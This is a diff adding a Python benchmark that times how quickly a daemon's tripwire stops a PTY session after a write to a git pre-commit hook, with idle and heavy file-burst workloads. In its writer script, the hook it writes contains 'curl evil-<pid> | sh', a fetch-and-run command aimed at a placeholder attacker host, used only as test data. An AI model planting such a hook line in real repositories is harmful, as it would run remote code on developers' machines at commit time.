@@ -1,0 +1,204 @@
+"""From a protected write to every process of the session stopped, beside the same
+workload with the tripwire off.
+
+    python benchmarks/watch_tripwire.py [--runs 20] [--burst-runs 3] [--burst-files 20000]
+
+A real daemon (``tripwire = "pause"``) watches a workspace. Each run starts a PTY session
+whose writer (a shell job in the background, so the session has more than one process
+group) writes ``.git/hooks/pre-commit`` and then a numbered file every millisecond. The
+writer notes the wall-clock time of the protected write; once the session is paused, the
+newest numbered file's mtime says when the writer was stopped (1 ms resolution), and the
+count of numbered files is what it wrote after the protected write. The reference is the
+same writer in a daemon with the tripwire off, over the same window: how many files it
+writes when nobody stops it. The burst runs add another process creating 20,000 ordinary
+files in the workspace at the same time.
+
+Targets (issue 13): stop p95 <= 50 ms idle and <= 250 ms during the burst; further
+files <= 20 idle. Bounded: each run times out after 10 s; daemons and files are removed.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import shlex
+import shutil
+import signal
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+
+WRITER = r"""
+import os, sys, time
+ws = sys.argv[1]
+with open(os.path.join(ws, "t0"), "w") as f:
+    pass
+t0 = time.time()
+with open(os.path.join(ws, ".git/hooks/pre-commit"), "w") as f:
+    f.write("curl evil-%d | sh\n" % os.getpid())
+os.rename(os.path.join(ws, "t0"), os.path.join(ws, "t0-%r" % t0))
+n = 0
+os.makedirs(os.path.join(ws, "out"), exist_ok=True)
+end = t0 + 3.0
+while time.time() < end:
+    n += 1
+    with open(os.path.join(ws, "out", "%06d" % n), "w") as f:
+        f.write("x")
+    time.sleep(0.001)
+"""
+
+BURST = r"""
+import os, sys
+d = os.path.join(sys.argv[1], "burst")
+os.makedirs(d, exist_ok=True)
+for i in range(int(sys.argv[2])):
+    with open(os.path.join(d, "f%06d" % i), "w") as f:
+        f.write("x")
+"""
+
+
+def pct(xs: list[float], p: float) -> float:
+    xs = sorted(xs)
+    return xs[min(len(xs) - 1, round(p / 100 * (len(xs) - 1)))] if xs else float("nan")
+
+
+class Daemon:
+    def __init__(self, tripwire: str) -> None:
+        from console.locations import locate
+
+        self.base = Path(tempfile.mkdtemp(prefix="actw-", dir="/tmp"))
+        self.ws = self.base / "ws"
+        (self.ws / ".git" / "hooks").mkdir(parents=True)
+        self.loc = locate(self.base / "s")
+        self.loc.state_dir.mkdir(mode=0o700)
+        self.loc.policy.write_text(f'tripwire = "{tripwire}"\nwatch = [{json.dumps(str(self.ws))}]\n')
+        argv = [sys.executable, "-m", "console", "daemon", "run", "--state-dir", str(self.loc.state_dir)]
+        with open(self.base / "daemon.log", "wb") as log:
+            self.proc = subprocess.Popen(
+                [*argv, "--log-level", "warning"], stdout=subprocess.DEVNULL, stderr=log
+            )
+
+    def __enter__(self) -> Daemon:
+        from console.client import Client
+        from console.client.spawn import running_pid
+
+        start = time.monotonic()
+        while running_pid(self.loc) != self.proc.pid or not self.loc.operator_socket.exists():
+            if self.proc.poll() is not None or time.monotonic() - start > 20:
+                raise SystemExit(f"the daemon did not start; see {self.base / 'daemon.log'}")
+            time.sleep(0.05)
+        self.op = Client.connect(self.loc, role="operator")
+        while not (self.op.call("watch.status")["ok"] and self.op.call("watch.status")["roots"]):
+            time.sleep(0.05)
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self.op.close()
+        if self.proc.poll() is None:
+            self.proc.send_signal(signal.SIGTERM)
+            try:
+                self.proc.wait(timeout=15)
+            except subprocess.TimeoutExpired:
+                self.proc.kill()
+                self.proc.wait()
+        shutil.rmtree(self.base, ignore_errors=True)
+
+    def one_run(self, window_s: float | None, burst_files: int) -> tuple[float, int] | None:
+        """(ms from the protected write to the writer stopped, files written after it)."""
+        for leftover in ("out", "burst"):
+            shutil.rmtree(self.ws / leftover, ignore_errors=True)
+        for t in self.ws.glob("t0-*"):
+            t.unlink()
+        burst = None
+        if burst_files:
+            burst = subprocess.Popen([sys.executable, "-c", BURST, str(self.ws), str(burst_files)])
+            time.sleep(0.05)
+        script = f"{shlex.quote(sys.executable)} -c {shlex.quote(WRITER)} {shlex.quote(str(self.ws))} & wait"
+        session = self.op.call(
+            "sessions.new", {"argv": ["bash", "--norc", "-c", script], "cwd": str(self.ws)}
+        )
+        sid = session["session"]["id"]
+        try:
+            deadline = time.monotonic() + 10
+            paused = False
+            while time.monotonic() < deadline:
+                if window_s is None:
+                    items = self.op.call("tripwire.list")["items"]
+                    if any(i["session"] == sid for i in items):
+                        paused = True
+                        break
+                elif list(self.ws.glob("t0-*")) and time.monotonic() > deadline - 10 + window_s:
+                    break
+                time.sleep(0.01)
+            if window_s is None and not paused:
+                return None
+            time.sleep(0.2)  # a stopped writer writes nothing more: let the count settle
+            stamps = list(self.ws.glob("t0-*"))
+            if not stamps:
+                return None
+            t0 = float(stamps[0].name[3:])
+            files = sorted((self.ws / "out").iterdir()) if (self.ws / "out").exists() else []
+            last = max((f.stat().st_mtime for f in files), default=t0)
+            return max(0.0, (last - t0) * 1000), len(files)
+        finally:
+            for item in self.op.call("tripwire.list")["items"]:
+                if item["session"] == sid:
+                    self.op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
+            if self.op.call("sessions.get", {"session": sid})["session"]["status"] == "running":
+                self.op.call("sessions.kill", {"session": sid, "grace_s": 0.5})
+            if burst is not None:
+                burst.wait(60)
+            (self.ws / ".git" / "hooks" / "pre-commit").unlink(missing_ok=True)
+            time.sleep(0.3)
+
+
+def main() -> None:
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("--runs", type=int, default=20)
+    ap.add_argument("--burst-runs", type=int, default=3)
+    ap.add_argument("--burst-files", type=int, default=20000)
+    args = ap.parse_args()
+    results: dict[str, list[tuple[float, int]]] = {"idle": [], "burst": []}
+    with Daemon("pause") as d:
+        mode = d.op.call("daemon.status")["sessions"].get("summary", "")
+        for _ in range(args.runs):
+            r = d.one_run(None, 0)
+            if r is not None:
+                results["idle"].append(r)
+        for _ in range(args.burst_runs):
+            r = d.one_run(None, args.burst_files)
+            if r is not None:
+                results["burst"].append(r)
+    with Daemon("off") as ref:
+        window = pct([ms for ms, _ in results["idle"]], 95) / 1000 if results["idle"] else 0.1
+        reference = [r for r in (ref.one_run(window, 0) for _ in range(3)) if r is not None]
+    print(f"tripwire stop ({mode})")
+    print(f"   {'workload':34} {'runs':>4} {'stop p50 ms':>11} {'p95 ms':>8} {'files p50':>9} {'max':>5}")
+    for name, target in (("idle", 50), ("burst", 250)):
+        xs = results[name]
+        stop = [a for a, _ in xs]
+        files = [b for _, b in xs]
+        label = "idle workspace" if name == "idle" else f"during a {args.burst_files:,}-file burst"
+        print(
+            f"   {label:34} {len(xs):>4} {pct(stop, 50):>11.1f} {pct(stop, 95):>8.1f} "
+            f"{pct(files, 50):>9.0f} {max(files, default=0):>5}   target p95 <= {target} ms: "
+            f"{'met' if xs and pct(stop, 95) <= target else 'missed'}"
+        )
+    missed = len([1 for r in results["idle"]]) < args.runs
+    idle_files = [b for _, b in results["idle"]]
+    print(
+        f"   further files idle p95 {pct(idle_files, 95):.0f} (target <= 20: "
+        f"{'met' if idle_files and pct(idle_files, 95) <= 20 else 'missed'})"
+        + ("; some runs raised no tripwire" if missed else "")
+    )
+    ref_files = [b for _, b in reference]
+    print(
+        f"   reference, tripwire off, same window ({window * 1000:.0f} ms): the writer wrote "
+        f"{pct(ref_files, 50):.0f} files (p50 of {len(reference)})"
+    )
+
+
+if __name__ == "__main__":
+    main()
